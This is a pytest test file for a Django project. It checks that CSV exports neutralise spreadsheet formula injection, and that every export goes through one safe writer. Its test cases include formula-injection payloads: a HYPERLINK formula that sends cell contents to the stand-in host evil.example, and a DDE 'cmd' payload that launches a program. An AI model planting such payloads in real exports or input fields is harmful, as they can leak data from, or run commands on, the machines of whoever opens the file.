"""CSV cells never reach a spreadsheet as formulas (core.spreadsheets)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from core import spreadsheets

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","Click")',
            '\'=HYPERLINK("http://evil.example","Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Invoices cannot be posted", "Invoices cannot be posted"),
        ("", ""),
        ("-15", "-15"),  # a number, not a formula: it stays a number
        ("+3.5", "+3.5"),
        ("ACME-1042", "ACME-1042"),
    ],
)
def test_cells_that_start_a_formula_are_prefixed_with_a_quote(cell, written):
    assert spreadsheets.neutralise(cell) == written


def test_non_text_cells_are_written_as_they_are():
    assert spreadsheets.neutralise(-15) == -15
    assert spreadsheets.neutralise(None) is None


def test_the_writer_neutralises_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = spreadsheets.writer(buffer)
    writer.writerow(["Title", "=1+1"])
    writer.writerows([["@x", "ok"], ["-1", "+A1"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["Title", "'=1+1"], ["'@x", "ok"], ["-1", "'+A1"]]


def test_every_csv_of_the_project_is_written_by_the_one_safe_writer():
    """A new export that calls csv.writer directly would skip the neutralisation."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "node_modules/")):
            continue
        if relative == "core/spreadsheets.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert not offenders, f"CSV written without core.spreadsheets: {offenders}"


@pytest.mark.django_db
def test_a_customers_formula_title_reaches_the_managers_csv_as_text(
    client,
    personas,
    make_ticket,
):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    ticket = make_ticket(title=title)
    client.force_login(personas.manager)
    response = client.get(
        reverse("dashboard_organization_export", kwargs={"code": "ACME", "table": "open_tickets"})
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + title in cells, rows
    assert title not in cells
    assert ticket.reference in cells
